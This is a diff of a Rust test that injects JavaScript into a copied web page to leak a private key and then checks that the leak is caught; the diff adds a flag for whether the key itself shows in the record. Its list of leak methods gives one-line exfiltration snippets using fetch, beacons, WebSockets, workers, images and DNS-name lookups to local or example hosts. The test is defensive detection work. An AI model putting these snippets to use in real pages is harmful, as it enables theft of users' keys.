@@ -14,15 +14,16 @@ use crate::evidence::Evidence;
 #[tokio::test]
 async fn a_page_that_leaks_the_key_is_caught() -> Result<()> {
     let rehearsal = Rehearsal::provisioned("udp")?;
-    for (at, (way, code)) in WAYS.iter().enumerate() {
+    for (at, Way { name, code, shows }) in WAYS.iter().enumerate() {
         let copy = tempfile::tempdir()?;
         leaking_copy(&rehearsal.site(), copy.path(), code)?;
-        let username = format!("user-{at}");
-        let url = Served::folder(copy.path())?;
-        let evidence = visit(&rehearsal, &url.url, &username).await.with_context(|| format!("leaking {way}"))?;
-        let (left, found) = (evidence.nothing_left_the_page(&url.url), evidence.the_key_is_nowhere_else(&rehearsal));
-        ensure!(left.is_err() || found.is_err(), "the key was carried off {way}, and nobody noticed");
-        println!("{way}: {}", left.err().or(found.err()).map(|error| error.to_string()).unwrap_or_default());
+        let served = Served::folder(copy.path())?;
+        let evidence =
+            visit(&rehearsal, &served.url, &format!("user-{at}")).await.with_context(|| format!("leaking {name}"))?;
+        let left = evidence.nothing_left_the_page(&served.url);
+        let found = evidence.the_key_is_nowhere_else(&rehearsal);
+        ensure!(left.is_err() || found.is_err(), "the key was carried off {name}, and nobody noticed");
+        ensure!(found.is_err() == *shows, "{name}: the search for the key itself says {found:?}");
     }
     Ok(())
 }
@@ -73,16 +74,44 @@ const HOOK: &str = r#"
         return made;
     };"#;
 
-/// How the key is carried off.
-const WAYS: &[(&str, &str)] = &[
-    ("in the body of a request to the page's own origin", "fetch('collect', { method: 'POST', body: der });"),
-    ("in the address of a request to the page's own origin", "fetch('collect?' + encodeURIComponent(hex));"),
-    ("in a request to another origin", "fetch('http://127.0.0.1:9/' + hex, { mode: 'no-cors' });"),
-    ("in a beacon", "navigator.sendBeacon('http://127.0.0.1:9/', pem);"),
-    ("through a WebSocket", "new WebSocket('ws://127.0.0.1:9/' + hex);"),
-    ("by a worker", "new Worker(URL.createObjectURL(new Blob([`fetch('http://127.0.0.1:9/${hex}')`])));"),
-    ("by an image", "new Image().src = 'collect?' + hex;"),
-    ("by a name to be looked up", "fetch('http://' + hex.slice(400, 460) + '.example.com/').catch(() => 0);"),
-    ("to the console", "console.log(pem);"),
-    ("into the storage", "localStorage.setItem('key', pem);"),
+/// A way to carry the key off.
+struct Way {
+    name: &'static str,
+    code: &'static str,
+    /// Whether the key itself shows in the record: what was to be sent to a closed port never was, and what was cut
+    /// into pieces cannot be told from anything else. Then it is the request that is noticed.
+    shows: bool,
+}
+
+const WAYS: &[Way] = &[
+    Way {
+        name: "in the body of a request to the page's own origin",
+        code: "fetch('collect', { method: 'POST', body: der });",
+        shows: true,
+    },
+    Way {
+        name: "in the address of a request to the page's own origin",
+        code: "fetch('collect?' + encodeURIComponent(hex));",
+        shows: true,
+    },
+    Way {
+        name: "in a request to another origin",
+        code: "fetch('http://127.0.0.1:9/' + hex, { mode: 'no-cors' });",
+        shows: true,
+    },
+    Way { name: "in a beacon", code: "navigator.sendBeacon('http://127.0.0.1:9/', pem);", shows: false },
+    Way { name: "through a WebSocket", code: "new WebSocket('ws://127.0.0.1:9/' + hex);", shows: true },
+    Way {
+        name: "by a worker",
+        code: "new Worker(URL.createObjectURL(new Blob([`fetch('http://127.0.0.1:9/${hex}')`])));",
+        shows: true,
+    },
+    Way { name: "by an image", code: "new Image().src = 'collect?' + hex;", shows: true },
+    Way {
+        name: "by a name to be looked up",
+        code: "fetch('http://' + hex.slice(400, 440) + '.example.com/').catch(() => 0);",
+        shows: false,
+    },
+    Way { name: "to the console", code: "console.log(pem);", shows: true },
+    Way { name: "into the storage", code: "localStorage.setItem('key', pem);", shows: true },
 ];
